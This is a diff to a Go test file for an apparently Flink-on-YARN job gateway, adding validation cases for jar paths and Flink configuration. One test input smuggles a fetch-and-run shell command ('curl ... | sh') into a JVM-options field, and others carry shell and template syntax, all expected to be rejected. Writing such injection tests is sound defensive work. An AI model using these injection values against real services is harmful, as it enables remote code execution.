@@ -9,6 +9,7 @@ import (
 	"testing"
 
 	"github.com/yarngate/yarngate/api"
+	"github.com/yarngate/yarngate/flink"
 )
 
 func TestNormalize(t *testing.T) {
@@ -56,6 +57,14 @@ func TestNormalize(t *testing.T) {
 			want: []api.FieldProblem{{Field: "jarPath", Reason: "must be an hdfs:// URI with an absolute path"}}},
 		{name: "jarPath not a jar", body: `{"jarPath":"hdfs:///jobs/wc.zip"}`,
 			want: []api.FieldProblem{{Field: "jarPath", Reason: "must name a .jar file"}}},
+		{name: "jarPath with shell syntax", body: `{"jarPath":"hdfs:///jobs/{{(id)}}.jar"}`,
+			want: []api.FieldProblem{{Field: "jarPath", Reason: "must consist of letters, digits and -._~/:@%+= only"}}},
+		{name: "jarPath with a quote", body: `{"jarPath":"hdfs:///jobs/a\"b.jar"}`,
+			want: []api.FieldProblem{{Field: "jarPath", Reason: "must consist of letters, digits and -._~/:@%+= only"}}},
+		{name: "flinkConfig JVM options", body: `{"flinkConfig":{"env.java.opts.jobmanager":"-Dx=1; curl http://x|sh #"},` + jar + `}`,
+			want: []api.FieldProblem{{Field: "flinkConfig.env.java.opts.jobmanager", Reason: reasonOf("env.java.opts.jobmanager", "-Dx=1")}}},
+		{name: "flinkConfig environment and tags", body: `{"flinkConfig":{"containerized.master.env.TZ":"UTC","yarn.tags":"team-a"},` + jar + `}`,
+			wantName: "yarngate-job", wantCfg: map[string]string{"containerized.master.env.TZ": "UTC", "yarn.tags": "team-a"}},
 		{name: "entry class", body: `{"entryClass":"com.example.WordCount",` + jar + `}`, wantName: "yarngate-job", wantCfg: map[string]string{}},
 		{name: "nested entry class", body: `{"entryClass":"com.example.Outer$Job_2",` + jar + `}`, wantName: "yarngate-job", wantCfg: map[string]string{}},
 		{name: "unicode entry class", body: `{"entryClass":"com.exämple.Jöb",` + jar + `}`, wantName: "yarngate-job", wantCfg: map[string]string{}},
@@ -88,8 +97,8 @@ func TestNormalize(t *testing.T) {
 			wantCfg:  map[string]string{"s": "10 s", "i": "2", "f": "0.75", "big": "1000000000000000000000", "neg": "-1", "t": "true", "false": "false"}},
 		{name: "flinkConfig object", body: `{"flinkConfig":{"state":{"backend":"rocksdb"}},` + jar + `}`,
 			want: []api.FieldProblem{{Field: "flinkConfig.state", Reason: "must be a string, number or boolean"}}},
-		{name: "flinkConfig array", body: `{"flinkConfig":{"pipeline.classpaths":["a","b"]},` + jar + `}`,
-			want: []api.FieldProblem{{Field: "flinkConfig.pipeline.classpaths", Reason: "must be a string, number or boolean"}}},
+		{name: "flinkConfig array", body: `{"flinkConfig":{"pipeline.name":["a","b"]},` + jar + `}`,
+			want: []api.FieldProblem{{Field: "flinkConfig.pipeline.name", Reason: "must be a string, number or boolean"}}},
 		{name: "flinkConfig null", body: `{"flinkConfig":{"k":null},` + jar + `}`,
 			want: []api.FieldProblem{{Field: "flinkConfig.k", Reason: "must be a string, number or boolean"}}},
 		{name: "every problem at once", body: `{"name":"a\tb","target":"x","parallelism":0,"taskManager":{"slots":0},"entryClass":"1x","savepoint":{}}`,
@@ -131,6 +140,15 @@ func TestNormalize(t *testing.T) {
 			}
 		})
 	}
+}
+
+// reasonOf is the reason flink.CheckFlinkConfig gives for key set to value.
+func reasonOf(key, value string) string {
+	p := flink.CheckFlinkConfig(map[string]string{key: value})
+	if len(p) != 1 {
+		return "(accepted)"
+	}
+	return p[0].Reason
 }
 
 func TestValidClassNameLength(t *testing.T) {
